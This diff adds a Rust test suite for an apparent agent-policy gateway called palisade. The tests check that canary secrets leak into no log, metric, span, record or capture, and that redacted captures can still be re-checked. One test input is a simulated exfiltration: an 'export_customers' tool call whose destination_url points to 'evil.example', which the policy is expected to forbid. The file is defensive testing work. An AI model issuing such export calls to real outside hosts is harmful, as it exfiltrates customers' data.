@@ -1,0 +1,181 @@
+//! Nothing secret gets out: canaries in every place where a secret can be, and a look at all that leaves.
+
+use serde_json::json;
+
+use crate::support::ask::Ask;
+use crate::support::otlp::Receiver;
+use crate::support::process::{Process, palisade, stdout};
+use crate::support::{Setup, get, metric};
+
+const CANARY: &str = "canary-5b1f7c";
+
+/// A request with a canary wherever a client may put a secret.
+fn laden(ask: Ask) -> Ask {
+    let ask = ask
+        .header("authorization", &format!("Bearer {CANARY}"))
+        .header("cookie", &format!("session={CANARY}"))
+        .header("x-api-key", CANARY)
+        .header("mcp-session-id", CANARY);
+    Ask { path: format!("{}?token={CANARY}", ask.path), ..ask }
+}
+
+fn asks() -> Vec<(Ask, &'static str)> {
+    let text = json!({"segment": CANARY});
+    let malformed = format!("{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"x\":\"{CANARY}\"");
+    let twice = format!("{{\"jsonrpc\":\"2.0\",\"id\":1,\"id\":2,\"x\":\"{CANARY}\"}}");
+    let uri = format!("file:///x?t={CANARY}");
+    let reading = json!({"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": uri}});
+    let export = json!({"destination_url": format!("https://evil.example/{CANARY}")});
+    vec![
+        (Ask::tool("support-bot", "query_customers", &text), ""),
+        (Ask::tool("support-bot", "query_customers", &json!({"segment": CANARY, "limit": 5_000})), "policy_forbids"),
+        (Ask::tool("coder", "query_customers", &text), "no_policy_permits"),
+        (Ask::tool("scraper", "export_customers", &export), "policy_forbids"),
+        (Ask::tool("support-bot", "get_customer", &json!({"customer_id": CANARY})), "arguments_mismatch"),
+        (Ask::mcp("support-bot", malformed), "json_malformed"),
+        (Ask::mcp("support-bot", twice), "json_duplicate_key"),
+        (Ask::mcp("support-bot", reading.to_string()), "no_policy_permits"),
+        (Ask::status("coder"), ""),
+        (Ask { principal: String::new(), ..Ask::permitted() }, "identity_absent"),
+    ]
+}
+
+#[test]
+fn canaries_are_in_no_record_log_line_metric_span_or_answer() {
+    let (receiver, otlp) = Receiver::start();
+    let setup = Setup::new().set("telemetry", "otlp_endpoint", format!("\"http://{otlp}\"")).set(
+        "telemetry",
+        "permit_sample_ratio",
+        "1.0",
+    );
+    let mut process = Process::serve(setup, &[]);
+    let client = process.client();
+    let mut answers = Vec::new();
+    for (ask, reason) in asks() {
+        let answer = client.check(&laden(ask));
+        assert_eq!(answer.reason, reason, "{}", answer.body);
+        answers.push(answer);
+    }
+    let metrics = get(process.admin(), "/metrics").1;
+    let ready = get(process.admin(), "/readyz").1;
+    for answer in &answers {
+        receiver.span(&answer.decision_id);
+    }
+    assert_eq!(process.stop(), Some(0));
+    assert_eq!(process.records().len(), answers.len());
+    let records = std::fs::read_to_string(process.setup.path().join("records.jsonl")).unwrap();
+    let spans = format!("{:?}", receiver.exports());
+    assert!(spans.contains("crm/query_customers"));
+    let bodies: String = answers.iter().map(|answer| format!("{:?}", answer.response)).collect();
+    for (what, text) in [
+        ("records", &records),
+        ("log", &process.log_text()),
+        ("metrics", &metrics),
+        ("readiness", &ready),
+        ("spans", &spans),
+        ("answers", &bodies),
+    ] {
+        assert!(!text.contains(CANARY), "{what}: {text}");
+    }
+}
+
+/// Captured checks are files that travel: redacted unless asked otherwise.
+#[test]
+fn captures_are_redacted_and_can_be_checked() {
+    let setup = Setup::new();
+    let captures = setup.path().join("captures");
+    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap()]);
+    let client = process.client();
+    let ids: Vec<_> = asks().into_iter().map(|(ask, _)| client.check(&laden(ask)).decision_id).collect();
+    let files: Vec<_> = ids.iter().map(|id| captures.join(format!("{id}.json"))).collect();
+    for path in &files {
+        whole(path);
+    }
+    assert_eq!(process.stop(), Some(0));
+    let bundle = process.setup.bundle();
+    for (path, (_, reason)) in files.iter().zip(asks()) {
+        let text = std::fs::read_to_string(path).unwrap();
+        assert!(!text.contains(CANARY), "{text}");
+        let output = palisade(&["check", path.to_str().unwrap(), "--bundle", bundle.to_str().unwrap()]);
+        let code = output.status.code().unwrap();
+        assert!([0, 10, 11].contains(&code), "{reason}: {output:?}");
+        assert!(stdout(&output).starts_with("note: values were taken out"), "{}", stdout(&output));
+        // Who called which tool is still there, so these decide as they did.
+        if ["", "no_policy_permits", "identity_absent"].contains(&reason) {
+            assert_eq!(code == 0, reason.is_empty(), "{reason}: {}", stdout(&output));
+        }
+    }
+}
+
+/// As records are: even redacted, a capture tells who called what; and there is a way to have it whole.
+#[test]
+fn captures_are_the_owner_s() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let setup = Setup::new();
+    let captures = setup.path().join("captures");
+    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap(), "--dangerous-record-values"]);
+    let answer = process.client().check(&laden(Ask::permitted()));
+    let path = captures.join(format!("{}.json", answer.decision_id));
+    let text = whole(&path);
+    assert!(text.contains(CANARY), "asked for, and given: {text}");
+    assert_eq!(process.stop(), Some(0));
+    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o077, 0, "others can read the capture");
+    // Whole, it decides as it did, and says nothing about values that are missing.
+    let bundle = process.setup.bundle();
+    let output = palisade(&["check", path.to_str().unwrap(), "--bundle", bundle.to_str().unwrap()]);
+    assert_eq!(output.status.code(), Some(0));
+    assert!(stdout(&output).starts_with("verdict    PERMIT"), "{}", stdout(&output));
+}
+
+/// What was captured is on disk when the process has ended.
+#[test]
+fn captures_are_all_written_at_the_end() {
+    let setup = Setup::new();
+    let captures = setup.path().join("captures");
+    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap()]);
+    let client = process.client();
+    for _ in 0..60 {
+        client.check(&Ask::permitted()).assert_permit();
+    }
+    let dropped = metric(&get(process.admin(), "/metrics").1, "palisade_captures_dropped_total", &[]);
+    assert_eq!(process.stop(), Some(0));
+    let texts: Vec<_> = std::fs::read_dir(&captures)
+        .unwrap()
+        .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
+        .collect();
+    assert!(texts.iter().all(|text| text.ends_with('}')));
+    assert_eq!(texts.len() as f64, 60.0 - dropped);
+}
+
+/// A capture, once it is wholly written.
+fn whole(path: &std::path::Path) -> String {
+    crate::support::eventually("a capture", || std::fs::read_to_string(path).ok().filter(|text| text.ends_with('}')))
+}
+
+/// A waypoint's capture names its caller too, or it could not be checked.
+#[test]
+fn captures_of_a_waypoint_can_be_checked() {
+    let setup = Setup::new().listener("tcp = \"127.0.0.1:0\"\nidentity = \"xfcc\"");
+    let captures = setup.path().join("captures");
+    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap()]);
+    // Numbers are taken out too; this call is decided alike without its values.
+    let ask = Ask::tool("support-bot", "query_customers", &json!({"segment": "startup"}));
+    let answer = process.client().check(&laden(ask.by_xfcc()));
+    answer.assert_permit();
+    let path = captures.join(format!("{}.xfcc.json", answer.decision_id));
+    let text = whole(&path);
+    assert_eq!(process.stop(), Some(0));
+    assert!(!text.contains(CANARY), "{text}");
+    let config = process.setup.path().join("palisade.toml");
+    let bundle = process.setup.bundle();
+    let output = palisade(&[
+        "check",
+        path.to_str().unwrap(),
+        "--xfcc",
+        "--bundle",
+        bundle.to_str().unwrap(),
+        "--config",
+        config.to_str().unwrap(),
+    ]);
+    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
+}
